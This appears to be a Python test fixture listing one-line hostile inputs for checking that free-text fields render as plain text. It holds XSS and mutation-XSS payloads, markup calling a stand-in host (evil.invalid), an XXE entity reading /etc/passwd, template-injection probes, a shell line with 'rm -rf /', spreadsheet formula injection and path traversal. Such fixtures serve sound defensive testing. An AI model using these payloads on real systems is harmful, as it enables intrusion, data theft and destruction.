"""What a clever attacker would write besides: differences between parsers, other languages, other readers of a file.

Each is one line, stands in every field that takes free text, and must be plain text wherever it is read.
"""

from __future__ import annotations

HIT = "window.hit=1;alert(1)"
_PICTURE = f"<img src=x onerror={HIT}>"

PAYLOADS = {
    # Parsers that disagree: what a cleaner takes for text, a browser takes for markup.
    "noscript": f'<noscript><p title="</noscript>{_PICTURE}">',
    "mglyph": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_PICTURE}">',
    "style-in-svg": f'<svg></p><style><a id="</style>{_PICTURE}">',
    "nested-forms": f"<form><math><mtext></form><form><mglyph><style></math>{_PICTURE}",
    "select": f"<select><option><style></option></select>{_PICTURE}</style>",
    "xmp": f'<xmp><p title="</xmp><svg/onload={HIT}>">',
    "plaintext": "<plaintext><listing><title><noembed><noframes>",
    "template-element": f"<template><script>{HIT}</script></template><slot name=content>",
    "shadow": f"<div><template shadowrootmode=open><script>{HIT}</script></template></div>",
    "annotation": f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={HIT}></style></annotation-xml>',
    "unclosed-attribute": f"<img title=\"x' onerror={HIT} alt=`",
    "no-spaces": f"<svg/onload={HIT}//><svg\u00a0onload={HIT}><img/src/onerror={HIT}>",
    "odd-cases": f"<ScRiPt>{HIT}</sCrIpT ><SCRIPT/x>{HIT}</SCRIPT/x><script\u3000>{HIT}</script>",
    "duplicate-attributes": f'<a href="https://example.org" href="javascript:{HIT}" onclick=1 onclick="{HIT}">x</a>',
    # Elements that run without a click.
    "events": f"<details open ontoggle={HIT}><marquee onstart={HIT}><video><source onerror={HIT}><audio src=x onerror={HIT}>",
    "focus": f"<input autofocus onfocus={HIT}><select autofocus onfocus={HIT}><textarea autofocus onfocus={HIT}>",
    "popover": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={HIT}></div><dialog open onclose={HIT}>",
    "animation": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={HIT}>x</b>",
    "svg-use": "<svg><use href='data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKScvPg==#x'/></svg>",
    "svg-link": f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a><set attributeName=href to=javascript:{HIT}></svg>",
    "foreign-object": f'<svg><foreignObject><iframe srcdoc="<script>parent.{HIT}</script>"></foreignObject></svg>',
    "objects": f"<object data='javascript:{HIT}'><embed src='data:text/html,<script>{HIT}</script>'><portal src=https://evil.invalid/>",
    "preloads": "<link rel=prefetch href=https://evil.invalid/><link rel=manifest href=//evil.invalid/><meta name=referrer content=unsafe-url>",
    "import-map": '<script type=importmap>{"imports":{"a":"https://evil.invalid/a.js"}}</script><script type=speculationrules>{}</script>',
    "dangling": "<img src='https://evil.invalid/?",
    "dangling-base": "<base target='<a href=https://evil.invalid/><font size='",
    "clobbering": "<form id=browse name=haatSearch><input name=dataset><a id=haatIndex name=open></form><img name=currentScript>",
    # Out of an attribute, a script, a style, a comment, a JSON document.
    "every-quote": f"\"'`><svg onload={HIT}>'\"`;{HIT};//",
    "double-escape": f"<!--<script>{HIT}</script>--!><script>{HIT}</script>",
    "script-string": f"';{HIT};'\";{HIT};\"\\';{HIT};//</script>*/{HIT}/*${{{HIT}}}",
    "json-ld": '"}]}</script><script type="application/ld+json">{"@context":"https://evil.invalid","@type":"Product"}</script>',
    "json-escapes": f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e \\x3cscript\\x3e \\\"}}]",
    "style-sheet": "</style><style>@import url(https://evil.invalid/a.css);*{background:url(//evil.invalid/)}</style>",
    "style-string": "x;}*{display:none}body::after{content:url(https://evil.invalid/)}/*",
    "meta-content": f'" http-equiv="refresh" content="0;url=https://evil.invalid/"><meta property="og:image" content="https://evil.invalid/x.png',
    "xml": f']]></summary><script xmlns="http://www.w3.org/1999/xhtml">{HIT}</script><![CDATA[',
    "xml-entities": '<?xml-stylesheet href="https://evil.invalid/a.xsl"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "svg-text": f"</text></svg><script>{HIT}</script><svg onload={HIT}><text>",
    "conditional": f"<!--[if gte IE 4]><script>{HIT}</script><![endif]--><?php echo 1 ?><% out %>",
    # Encodings.
    "half-entities": f"&ltscript&gt{HIT}&lt/script&gt &#60img src=x onerror={HIT}&#62 &#x3Cb&#x3e",
    "percent": f"%3Cscript%3E{HIT}%3C%2Fscript%3E %253Cscript%253E %u003cscript%u003e",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "full-width": f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e \ufe64img src=x onerror={HIT}\ufe65 \u2039b\u203a",
    "look-alikes": "p\u0430yp\u0430l.example \u0501igits-mlp \u217cogin \u0391dmin",
    # Templates, Markdown and its dialects, shells, spreadsheets.
    "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% raw %}{# x #}{{ config }}{%- include 'home.html' -%}",
    "shell-tokens": "@@meta@@ @@title@@ @@head@@ @@content@@ @@meta@@",
    "placeholders": "{count} {title} {value} %(name)s %s {0} {0.__class__} $name ${name}",
    "markdown-line": f"**bold** [x](javascript:{HIT}) ![x](https://evil.invalid/p.png) <https://evil.invalid/> `code`",
    "markdown-attributes": f"x{{: onclick={HIT} style=position:fixed }} {{.h-banner #content}} [TOC] :material-alert: *[x]: y",
    "snippets": '--8<-- "/etc/passwd" !!! danger ??? x === "tab" [^1]: https://evil.invalid',
    "mermaid": f'```mermaid graph TD; A["<img src=x onerror={HIT}>"]--&gt;B; click A "javascript:{HIT}" ```',
    "formula-math": f"$$\\href{{javascript:{HIT}}}{{x}}$$ \\(\\unicode{{<{_PICTURE}}}\\) \\[x\\]",
    "shell": "$(touch /tmp/hit); `touch /tmp/hit` && rm -rf / | sh # ' \" \\",
    "spreadsheet": "=HYPERLINK(\"https://evil.invalid/?\"&A1,\"x\")",
    "spreadsheet-command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spreadsheet-sign": "+cmd|' /C calc'!A0, -2+3, =1+1",
    # Names that programs trip over.
    "prototype": "__proto__",
    "constructor": "constructor toString valueOf hasOwnProperty",
    "falsy": "null undefined NaN 0 false [] {}",
    "dots": "../../../../etc/passwd ..\\..\\x file:///etc/passwd",
    # Addresses that look like others.
    "user-info": "https://example.org@evil.invalid/ https://example.org\\@evil.invalid //evil.invalid \\\\evil.invalid",
    # Letters that hide, turn around, pile up or are not there.
    "overrides": "invoice\u202egpj.exe \u202dabc\u202c \u2067rtl\u2069 \u2066ltr\u2069 \u061c\u200f\u200e",
    "invisible": "a\u034fb\u115fc\u3164d\u2800e\u180ef\u17b4g\uffa0h\u00adi\ufff9j\ufffbk",
    "tags": "flag\U0001f3f4\U000e0067\U000e0062\U000e007f hidden\U000e0001\U000e0041 \ufe0f\ufe0e",
    "joined": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \u0915\u094d\u200d\u0937 na\u200cme",
    "separators": f"one\u2028two\u2029three\u0085four<script>{HIT}</script>",
    "controls": "\u009b31m red \u009d0;title\u009c \u0080\u0099",
    "piled-up": "".join(f"{letter}" + "\u0300\u0301\u0316\u20dd\ufe20" * 8 for letter in "abc"),
    "right-to-left": '\u05e9\u05dc\u05d5\u05dd <b>\u05e2\u05d5\u05dc\u05dd</b> "onclick=1 (123) \u0645\u0631\u062d\u0628\u0627',
    "no-breaks": "https://example.org/" + "a" * 250,
    "tall": "\ufdfa\U00012219\U0001242b\u0bf5" * 6,
}
